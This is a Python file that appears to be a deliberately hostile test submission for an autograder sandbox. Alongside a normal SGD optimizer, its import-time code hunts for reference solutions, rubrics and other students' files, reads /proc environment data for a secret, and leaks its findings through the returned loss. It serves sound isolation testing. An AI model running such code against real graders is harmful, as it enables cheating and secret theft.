"""Hostile: tries to read what the sandbox must hide: the kit's reference implementation
(../../reference/*.py and any reference/ or autograder/ folder above the working directory or next to
sys.path entries), the rubric, other submissions next to this file, /proc/1/cmdline, the parent's
/proc/<ppid>/environ and its own environment. For everything it can read it prints a line starting
with READ_REFERENCE_FOUND (only names and the value of KIT_TEST_SECRET, which the kit's test may set
in the grader's environment; no other variable's value is printed). Every real leak (a kit file,
another student's file, KIT_TEST_SECRET) also goes into SGD's returned loss as a covert channel: a
closure loss of 1000 + leaks. /proc/1/cmdline (inside a PID namespace: the sandbox's own first
process) and the names of environment variables are printed but not counted.

The grader must: run the worker where none of these paths is visible and with a scrubbed environment
(no READ_REFERENCE_FOUND line that names a kit file or KIT_TEST_SECRET's value may appear in the
worker output or in feedback), and grade SGD normally: SGD.closure fails only if something leaked.
"""

import glob
import os
import sys

import torch
from torch.optim import Optimizer

_hits = []  # real leaks only


def _found(what, leak=True):
    if leak:
        _hits.append(what)
    print("READ_REFERENCE_FOUND", what)


def _try_read(path, leak=True):
    try:
        with open(path, "rb") as fh:
            data = fh.read(4096)
    except OSError:
        return None
    _found(f"{path} ({len(data)} bytes)", leak)
    return data


def _look_around():
    starts = {os.getcwd(), os.path.dirname(os.path.abspath(__file__))} | {p for p in sys.path if p}
    dirs = set()
    for start in starts:
        d = os.path.abspath(start)
        for _ in range(6):
            dirs.add(d)
            d = os.path.dirname(d)
    for d in sorted(dirs):
        for pattern in ("reference/*.py", "autograder/*.py", "autograder/grading/rubric/*.toml",
                        "solutions/*/*.ipynb", "grades/*/*.json", "tests/submissions/*/correct/*.py"):
            for path in glob.glob(os.path.join(d, pattern))[:5]:
                _try_read(path)
    here = os.path.dirname(os.path.abspath(__file__))
    for path in glob.glob(os.path.join(here, "..", "*"))[:20]:  # other students
        if os.path.isfile(path):
            _try_read(path)
    cmdline = _try_read("/proc/1/cmdline", leak=False)
    if cmdline is not None:
        print("READ_REFERENCE_FOUND /proc/1/cmdline =", cmdline.replace(b"\0", b" ")[:200])
    environ = _try_read(f"/proc/{os.getppid()}/environ", leak=False)
    if environ is not None:
        for item in environ.split(b"\0"):
            if item.startswith(b"KIT_TEST_SECRET="):
                _found(f"parent environ {item.decode(errors='replace')}")
    names = sorted(os.environ)
    print("READ_REFERENCE_ENV_NAMES", names)
    if "KIT_TEST_SECRET" in os.environ:
        _found(f"own environ KIT_TEST_SECRET={os.environ['KIT_TEST_SECRET']}")


try:
    _look_around()
except Exception as exc:  # keep the honest part importable
    print("read_reference:", type(exc).__name__, exc)


class SGD(Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0.0, dampening=0.0, weight_decay=0.0,
                 nesterov=False, *, maximize=False):
        if lr < 0.0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if momentum < 0.0:
            raise ValueError(f"Invalid momentum value: {momentum}")
        if weight_decay < 0.0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        if nesterov and (momentum <= 0 or dampening != 0):
            raise ValueError("Nesterov momentum requires a momentum and zero dampening")
        super().__init__(params, dict(lr=lr, momentum=momentum, dampening=dampening,
                                      weight_decay=weight_decay, nesterov=nesterov, maximize=maximize))

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        if loss is not None and _hits:
            loss = loss.detach() * 0 + 1000 + len(_hits)  # covert channel through the returned loss
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                d_p = -p.grad if group["maximize"] else p.grad
                if group["weight_decay"] != 0:
                    d_p = d_p.add(p, alpha=group["weight_decay"])
                if group["momentum"] != 0:
                    state = self.state[p]
                    buf = state.get("momentum_buffer")
                    if buf is None:
                        buf = state["momentum_buffer"] = d_p.detach().clone()
                    else:
                        buf.mul_(group["momentum"]).add_(d_p, alpha=1 - group["dampening"])
                    d_p = d_p.add(buf, alpha=group["momentum"]) if group["nesterov"] else buf
                p.add_(d_p, alpha=-group["lr"])
        return loss
